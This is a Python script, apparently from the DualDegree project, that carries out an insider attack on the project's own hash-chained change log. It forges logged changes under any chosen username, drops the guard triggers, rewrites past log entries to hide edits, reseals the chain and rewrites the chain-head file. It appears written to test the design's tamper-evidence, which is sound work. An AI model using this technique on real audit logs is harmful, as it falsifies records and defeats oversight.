#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 DualDegree contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The insider's attack on a DualDegree database file, written from its published design.

Python's sqlite3 module defines the change log's functions itself (dd_actor, dd_reason,
dd_digest, and dd_chain, the seal re-implemented), so the log's triggers accept what
this script writes and seal it like DualDegree would.

  forge_log.py DB --actor USER --reason TEXT --sql SQL
      runs SQL through the triggers: the change is logged, under USER's name, and sealed.

  forge_log.py DB --rewrite TABLE KEY --sql SQL
      runs SQL, then makes the log say the row KEY of TABLE always was so: the guard
      triggers are dropped, the new log row is taken out, the row's last earlier log row
      is given the new state, every row from there on is sealed again, the guards are
      put back and the chain head beside the file is rewritten to match.

Prints the log row it wrote (or rewrote). Exit 0 when it did what was asked.
"""

import argparse
import hashlib
import json
import os
import sqlite3
import sys
import datetime


def seal(previous, seq, at, username, reason, table, key, operation, old, new):
    fields = [previous, str(seq), at, username, reason, table, str(key), operation, old, new]
    text = "\x1f".join("\x1e" if f is None else f for f in fields)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def digest(value):
    if value is None:
        return None
    data = value if isinstance(value, bytes) else str(value).encode("utf-8")
    return hashlib.sha256(data).hexdigest()


def connect(path, actor, reason):
    db = sqlite3.connect(path, isolation_level=None)
    db.create_function("dd_actor", 0, lambda: actor)
    db.create_function("dd_reason", 0, lambda: reason)
    db.create_function("dd_digest", 1, digest, deterministic=True)
    db.create_function("dd_chain", 10, seal)
    db.execute("PRAGMA foreign_keys = ON")
    return db


def reseal_from(db, first):
    rows = db.execute("SELECT seq, at, username, reason, table_name, row_key, operation, old_values, new_values"
                      " FROM change_log WHERE seq >= ? ORDER BY seq", (first,)).fetchall()
    previous = db.execute("SELECT hash FROM change_log WHERE seq < ? ORDER BY seq DESC LIMIT 1",
                          (first,)).fetchone()
    previous = previous[0] if previous else None
    for row in rows:
        previous = seal(previous, *row)
        db.execute("UPDATE change_log SET hash = ? WHERE seq = ?", (previous, row[0]))
    return previous


def rewrite_head(path, db):
    seq, hash_ = db.execute("SELECT seq, hash FROM change_log ORDER BY seq DESC LIMIT 1").fetchone()
    head = path + ".loghead"
    if os.path.exists(head):
        written = datetime.datetime.utcnow().strftime("%Y-%m-%dT%H:%M:%S.000Z")
        with open(head, "w", encoding="utf-8") as f:
            json.dump({"seq": seq, "hash": hash_, "written": written}, f)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("db")
    parser.add_argument("--actor", default=None)
    parser.add_argument("--reason", default=None)
    parser.add_argument("--sql", required=True)
    parser.add_argument("--rewrite", nargs=2, metavar=("TABLE", "KEY"))
    args = parser.parse_args()

    db = connect(args.db, args.actor, args.reason)
    before = db.execute("SELECT coalesce(max(seq), 0) FROM change_log").fetchone()[0]
    if not args.rewrite:
        db.execute("BEGIN")
        db.execute(args.sql)
        db.execute("COMMIT")
        after = db.execute("SELECT coalesce(max(seq), 0) FROM change_log").fetchone()[0]
        if after == before:
            print("nothing was logged", file=sys.stderr)
            return 1
        rewrite_head(args.db, db)
        print(after)
        return 0

    table, key = args.rewrite[0], int(args.rewrite[1])
    guards = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"
                        " AND name IN ('change_log_sealed', 'change_log_kept')").fetchall()
    db.execute("BEGIN")
    for name, _ in guards:
        db.execute("DROP TRIGGER %s" % name)
    db.execute(args.sql)
    logged = db.execute("SELECT seq, new_values FROM change_log WHERE seq > ? AND table_name = ? AND row_key = ?"
                        " ORDER BY seq DESC LIMIT 1", (before, table, key)).fetchone()
    if logged is None:
        print("the change was not logged", file=sys.stderr)
        return 1
    target = db.execute("SELECT seq FROM change_log WHERE seq <= ? AND table_name = ? AND row_key = ?"
                        " ORDER BY seq DESC LIMIT 1", (before, table, key)).fetchone()
    if target is None:
        print("the row has no earlier log row", file=sys.stderr)
        return 1
    db.execute("DELETE FROM change_log WHERE seq > ?", (before,))
    db.execute("UPDATE sqlite_sequence SET seq = ? WHERE name = 'change_log'", (before,))
    db.execute("UPDATE change_log SET new_values = ? WHERE seq = ?", (logged[1], target[0]))
    # A later log row of the same table row whose old values show the change would give it away.
    db.execute("UPDATE change_log SET old_values = ? WHERE seq = (SELECT min(seq) FROM change_log WHERE seq > ?"
               " AND table_name = ? AND row_key = ?)", (logged[1], target[0], table, key))
    reseal_from(db, target[0])
    for _, sql in guards:
        db.execute(sql)
    db.execute("COMMIT")
    rewrite_head(args.db, db)
    print(target[0])
    return 0


if __name__ == "__main__":
    sys.exit(main())
